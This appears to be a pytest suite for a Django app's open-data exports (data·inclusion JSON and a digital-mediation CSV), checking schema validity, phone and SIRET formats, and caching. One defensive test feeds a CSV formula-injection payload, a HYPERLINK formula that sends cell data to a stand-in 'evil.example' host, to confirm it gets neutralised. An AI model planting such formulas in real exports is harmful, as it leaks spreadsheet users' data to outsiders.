"""Open data: the data·inclusion export validates against the official schema package, the
"lieux de médiation numérique" export against the standard's Table Schema with frictionless, the
reference Table Schema implementation."""

import csv
import io
import json
from pathlib import Path

import pytest
from data_inclusion.schema.v1 import Service, Structure
from django.core.exceptions import ValidationError
from django.urls import reverse
from frictionless import Resource, Schema

from allervers.operators.models import Operator
from allervers.planning.enums import SpaceKind
from allervers.public.opendata import UNKNOWN_PIVOT, international_phone
from tests.conftest import refused_by
from tests.planning.factories import SiteFactory, SpaceFactory


def test_the_data_inclusion_export_validates(client, planning):
    response = client.get("/ccas-test/donnees/data-inclusion.json")
    assert response.status_code == 200
    assert response["Access-Control-Allow-Origin"] == "*"
    data = response.json()
    [structure] = [
        Structure.model_validate(item, context={"ignore_warnings": False})
        for item in data["structures"]
    ]
    services = [
        Service.model_validate(item, context={"ignore_warnings": False})
        for item in data["services"]
    ]
    assert structure.id == "allervers--ccas-test"
    assert structure.telephone == "03 21 00 00 00"
    assert {service.structure_id for service in services} == {structure.id}
    assert {service.nom for service in services} == {
        "Le bus à Place du Regain",
        "Le bus à École Jules Ferry",
    }
    regain = next(service for service in services if "Regain" in service.nom)
    assert regain.latitude == 50.4589
    # Held stops only, in OpenStreetMap opening-hours syntax.
    assert regain.horaires_accueil.count("09:00-12:00") == 1
    assert "17:00-20:00" in regain.horaires_accueil
    ecole = next(service for service in services if "Ferry" in service.nom)
    assert ecole.horaires_accueil.count(";") == 0  # the cancelled stop is left out


def test_unknown_operator_has_no_export(client, planning):
    assert client.get("/ccas-inconnu/donnees/data-inclusion.json").status_code == 404


# --- Lieux de médiation numérique (Table Schema) -------------------------------------------------

MEDIATION_URL = "/ccas-test/donnees/lieux-mediation-numerique.csv"
MEDIATION_STANDARD = Path(__file__).parent / "standards" / "lieux-mediation-numerique"


def mediation_errors(text: str) -> list[list]:
    """What frictionless finds wrong in a CSV text against the standard's schema.json: one
    [row, field, error type, message] per error (header, types, constraints, unique id)."""
    schema = Schema.from_descriptor(json.loads((MEDIATION_STANDARD / "schema.json").read_bytes()))
    resource = Resource(data=text.encode(), format="csv", encoding="utf-8", schema=schema)
    return resource.validate().flatten(["rowNumber", "fieldName", "type", "message"])


def mediation_rows(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))


def test_the_validator_accepts_the_standards_example_and_refuses_broken_rows():
    example = (MEDIATION_STANDARD / "exemple-valide.csv").read_text("utf-8")
    assert mediation_errors(example) == []
    header, row = example.splitlines()[:2]
    broken = (
        row.replace('"43493312300029"', '"434 933 123"')
        .replace('"51100"', '"5110"')
        .replace('"2024-04-02"', '"02/04/2024"')
        .replace('"Itinérant"', '"En bus"')
        .replace('"structure-1"', '""')
    )
    errors = mediation_errors(f"{header}\n{broken}\n")
    assert {field for _, field, _, _ in errors} >= {
        "pivot",
        "code_postal",
        "date_maj",
        "itinerance",
        "id",
    }, errors
    swapped = ",".join(reversed(header.split(",")))
    assert any(kind == "incorrect-label" for _, _, kind, _ in mediation_errors(f"{swapped}\n"))


def test_the_lieux_de_mediation_numerique_export_validates(client, planning):
    operator = planning["operator"]
    operator.siret = "21620074500016"
    operator.website = "https://www.ville-barlin.fr/"
    operator.save()
    response = client.get(MEDIATION_URL)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Access-Control-Allow-Origin"] == "*"
    assert mediation_errors(response.content.decode()) == []
    rows = {row["id"]: row for row in mediation_rows(response)}
    assert set(rows) == {
        "allervers--ccas-test--place-du-regain",
        "allervers--ccas-test--ecole-jules-ferry",
    }
    regain = rows["allervers--ccas-test--place-du-regain"]
    assert regain["pivot"] == "21620074500016"
    assert regain["itinerance"] == "Itinérant"
    assert regain["telephone"] == "+33321000000"
    assert (regain["code_postal"], regain["commune"]) == ("62620", "Barlin")
    assert (regain["latitude"], regain["longitude"]) == ("50.458900", "2.613500")
    assert regain["site_web"] == (
        "http://testserver/ccas-test/lieux/place-du-regain/|https://www.ville-barlin.fr/"
    )
    assert regain["modalites_acces"] == "Se présenter|Téléphoner|Contacter par mail"
    assert "Trottoir abaissé devant le bus." in regain["presentation_detail"]
    # Held stops only, in OpenStreetMap opening-hours syntax, as in the data·inclusion export.
    assert regain["horaires"].count("09:00-12:00") == 1 and "17:00-20:00" in regain["horaires"]
    ecole = rows["allervers--ccas-test--ecole-jules-ferry"]
    assert ecole["horaires"].count(";") == 0  # the cancelled stop is left out
    assert regain["services"] == "Aide aux démarches administratives"  # no cyber space


def test_without_siret_or_postcode_the_file_stays_valid(client, planning):
    """The schema requires a pivot and a postcode: a placeholder pivot, and a site without
    postcode is left out (the coordinator is told so)."""
    SiteFactory(operator=planning["operator"], name="Marché", slug="marche", postcode="")
    SpaceFactory(operator=planning["operator"], vehicle=planning["vehicle"], kind=SpaceKind.CYBER)
    response = client.get(MEDIATION_URL)
    assert mediation_errors(response.content.decode()) == []
    rows = mediation_rows(response)
    assert {row["pivot"] for row in rows} == {UNKNOWN_PIVOT}
    assert "Marché" not in response.content.decode()
    assert "Accès internet et matériel informatique" in rows[0]["services"]


def test_each_site_carries_its_commune_code_or_the_structures_in_both_files(client, planning):
    """A site's own INSEE code, else the structure's default; both files still validate."""
    operator = planning["operator"]
    operator.insee_code = "62083"  # Barlin
    operator.save()
    operator.sites.filter(slug="ecole-jules-ferry").update(insee_code="2A004")
    response = client.get(MEDIATION_URL)
    assert mediation_errors(response.content.decode()) == []
    rows = {row["id"]: row for row in mediation_rows(response)}
    assert rows["allervers--ccas-test--place-du-regain"]["code_insee"] == "62083"
    assert rows["allervers--ccas-test--ecole-jules-ferry"]["code_insee"] == "2A004"
    data = client.get("/ccas-test/donnees/data-inclusion.json").json()
    [structure] = [
        Structure.model_validate(item, context={"ignore_warnings": False})
        for item in data["structures"]
    ]
    services = {
        service.id: service
        for service in (
            Service.model_validate(item, context={"ignore_warnings": False})
            for item in data["services"]
        )
    }
    assert structure.code_insee == "62083"
    assert services["allervers--ccas-test--place-du-regain"].code_insee == "62083"
    assert services["allervers--ccas-test--ecole-jules-ferry"].code_insee == "2A004"


def test_without_any_commune_code_the_column_stays_empty_and_valid(client, planning):
    response = client.get(MEDIATION_URL)
    assert mediation_errors(response.content.decode()) == []
    assert {row["code_insee"] for row in mediation_rows(response)} == {""}
    data = client.get("/ccas-test/donnees/data-inclusion.json").json()
    assert [item["code_insee"] for item in data["structures"] + data["services"]] == [None] * 3


def test_the_coordinator_is_told_what_the_file_lacks(coordinator_client, planning):
    SiteFactory(operator=planning["operator"], name="Marché", slug="marche", city="")
    text = coordinator_client.get("/gestion/publication/").content.decode()
    assert "/ccas-test/donnees/lieux-mediation-numerique.csv" in text
    assert "Le numéro SIRET de la structure n'est pas renseigné" in text
    # She types it herself, in the structure's settings (issue 27), not through the platform.
    assert "Demandez à l'équipe de la plateforme" not in text
    assert f'Renseignez-le dans les <a href="{reverse("operators:settings")}">' in text
    assert "ne sont pas dans les lieux de médiation numérique : Marché." in text


def test_the_public_page_links_both_open_data_files(client, planning):
    text = client.get("/ccas-test/").content.decode()
    assert 'href="/ccas-test/donnees/data-inclusion.json"' in text
    assert 'href="/ccas-test/donnees/lieux-mediation-numerique.csv"' in text


def test_the_lieux_export_is_cached_and_follows_the_operator(
    client, planning, django_assert_max_num_queries, django_capture_on_commit_callbacks
):
    first = client.get(MEDIATION_URL)
    with django_assert_max_num_queries(0):
        again = client.get(MEDIATION_URL, headers={"If-None-Match": first["ETag"]})
    assert again.status_code == 304
    with django_capture_on_commit_callbacks(execute=True):
        planning["operator"].siret = "21620074500016"
        planning["operator"].save()
    assert {row["pivot"] for row in mediation_rows(client.get(MEDIATION_URL))} == {"21620074500016"}
    assert client.get("/ccas-inconnu/donnees/lieux-mediation-numerique.csv").status_code == 404


@pytest.mark.parametrize(
    "phone, expected",
    [
        ("03 21 00 00 00", "+33321000000"),
        ("03.21.00.00.00", "+33321000000"),
        ("+33 3 21 00 00 00", "+33321000000"),
        ("3237", ""),
        ("", ""),
    ],
)
def test_phones_are_written_in_the_international_format(phone, expected):
    assert international_phone(phone) == expected


@pytest.mark.parametrize("siret", ["2162007450001", "216 200 745 00016", "2162007450001A"])
def test_a_siret_has_14_digits(operator, siret):
    operator.siret = siret
    with pytest.raises(ValidationError) as error:
        operator.full_clean()
    assert (
        "Le numéro SIRET compte 14 chiffres, sans espace ni point."
        in (error.value.message_dict["siret"])
    )


def test_the_database_refuses_a_malformed_siret(operator):
    with refused_by("operator_siret_14_digits"):
        Operator.objects.filter(pk=operator.pk).update(siret="12345")


def test_the_lieux_export_neutralises_typed_text_and_keeps_exact_values(client, planning):
    """Text typed by users that a spreadsheet would run (= + - @) gets an apostrophe; the
    columns the schema constrains (phone +33…, a negative longitude, URLs) stay exact."""
    operator = planning["operator"]
    operator.name = '=HYPERLINK("http://evil.example/?"&A1)'
    operator.save()
    site = operator.sites.get(slug="place-du-regain")
    site.address, site.city, site.longitude = "+1 rue du Puits", "@SUM(1+1)", "-1.553600"
    site.save()
    response = client.get(MEDIATION_URL)
    assert mediation_errors(response.content.decode()) == []
    regain = {row["id"]: row for row in mediation_rows(response)}[
        "allervers--ccas-test--place-du-regain"
    ]
    assert regain["source"] == regain["structure_parente"] == "'" + operator.name
    assert regain["adresse"] == "'+1 rue du Puits"
    assert regain["commune"] == "'@SUM(1+1)"
    assert regain["telephone"] == "+33321000000"
    assert regain["longitude"] == "-1.553600"
    exact = {"telephone", "longitude", "latitude"}
    for name, value in regain.items():
        assert name in exact or not value.startswith(("=", "+", "-", "@")), (name, value)
